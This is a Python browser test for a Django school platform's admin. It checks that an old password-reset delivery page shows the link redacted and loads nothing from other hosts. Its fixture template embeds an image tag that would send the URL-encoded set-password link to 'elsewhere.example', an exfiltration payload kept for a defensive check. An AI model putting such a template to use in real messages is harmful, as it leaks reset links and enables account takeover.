"""A view-only staff member opens an old set-password delivery in chromium while copy that would leak
the link is live: the page (and its sandboxed frame) loads nothing from elsewhere and shows no link."""

import re
from urllib.parse import urlsplit

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse

from lms.models import User
from lms.tests.factories import TEST_PASSWORD, StaffUserFactory
from notifications.copy.published import forget_published_versions
from notifications.models import Delivery, MessageTemplate
from notifications.rendering import REDACTED
from notifications.services.dispatch import dispatch_due_deliveries

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
TOKEN = re.compile(r"[0-9a-z]{1,13}-[0-9a-f]{32}")


def test_an_old_reset_delivery_page_loads_nothing_from_elsewhere_and_shows_no_link(browser, live_server, client):
    root = User.objects.create_superuser(email="root@school.example", password="Very-long-admin-pass-1")
    client.post(reverse("password_reset"), {"email": root.email}, REMOTE_ADDR="203.0.113.7")
    dispatch_due_deliveries()
    delivery = Delivery.objects.get(event__kind="set_password_link", status="sent")
    # Copy that would hand the link to another server, live without the admin's checks.
    MessageTemplate.objects.create(
        kind="set_password_link",
        channel="email",
        language="en",
        version=1,
        status="published",
        subject="Your link",
        text="{{ set_password_url|urlencode:'' }}",
        html="<img src=\"https://elsewhere.example/?u={{ set_password_url|urlencode:'' }}\">",
    )
    forget_published_versions()
    viewer = StaffUserFactory(email="viewer@school.example")
    viewer.user_permissions.set(Permission.objects.filter(codename="view_delivery"))

    context = browser.new_context(base_url=live_server.url, viewport={"width": 1280, "height": 900})
    context.set_default_timeout(10_000)
    requested = []
    context.on("request", lambda request: requested.append(request.url))
    page = context.new_page()
    page.goto("/admin/login/")
    page.fill("#id_username", viewer.email)
    page.fill("#id_password", TEST_PASSWORD)
    page.click("input[type=submit]")
    page.goto(f"/admin/notifications/delivery/{delivery.pk}/change/")
    page.wait_for_load_state("networkidle")

    frame = page.frame_locator("iframe[data-testid=sent-html]")
    shown = frame.locator("body").inner_text()
    assert "Here is a new link to choose the password" in shown and REDACTED in frame.locator("body").inner_html()
    ours = urlsplit(live_server.url).netloc
    assert {urlsplit(url).netloc for url in requested if url.startswith("http")} == {ours}
    assert not TOKEN.search(page.content()) and "set-password/" not in page.content()
    context.close()
